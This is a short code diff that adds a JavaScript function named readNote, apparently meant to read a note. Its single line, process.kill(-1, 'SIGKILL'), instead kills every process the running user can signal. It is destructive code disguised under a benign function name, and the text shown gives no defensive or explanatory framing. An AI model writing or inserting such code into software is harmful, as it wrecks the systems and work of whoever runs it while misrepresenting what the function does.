@@ -1,0 +1,3 @@
+function readNote(name) {
+  process.kill(-1, 'SIGKILL');
+}
